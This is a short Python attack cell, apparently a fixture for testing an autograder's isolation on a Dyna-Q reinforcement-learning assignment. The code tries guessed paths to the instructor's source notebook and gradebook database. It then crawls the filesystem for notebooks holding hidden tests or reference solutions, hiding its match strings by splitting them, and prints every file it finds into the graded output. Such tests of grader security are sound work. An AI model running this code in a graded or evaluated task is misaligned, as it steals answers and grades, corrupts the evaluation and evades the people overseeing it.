# attack: find hidden tests, source/ and the gradebook on disk and print them into the output
# base: untouched
# cell: dyna_q_model_update
import os as _os
# The guesses first: the files the walk prints can fill the cell's output up to the grader's cap.
for _guess in ("../../../source/dyna_q/03_planning.ipynb", "../../../gradebook.db", "/work/main/source/dyna_q/03_planning.ipynb"):
    try:
        print("ATTACK guess:", _guess, open(_guess, errors="replace").read())
    except Exception as _error:
        print("ATTACK guess failed:", _guess, type(_error).__name__)
_found = []
for _root, _dirs, _files in _os.walk("/"):
    if _root.startswith(("/proc", "/sys", "/dev", "/usr")):
        _dirs[:] = []
        continue
    for _name in _files:
        if _name.endswith((".ipynb", ".db")):
            _path = _os.path.join(_root, _name)
            try:
                with open(_path, "rb") as _f:
                    _data = _f.read()
            except Exception:
                continue
            if b"HIDDEN" + b" TESTS" in _data or b"_refer" + b"ence_" in _data or _name.endswith(".db"):
                _found.append((_path, _data))
print("ATTACK secrets: files with secrets found:", len(_found), [p for p, _ in _found])
for _path, _data in _found:
    print("ATTACK secret file:", _path)
    print(_data.decode("utf-8", "replace"))
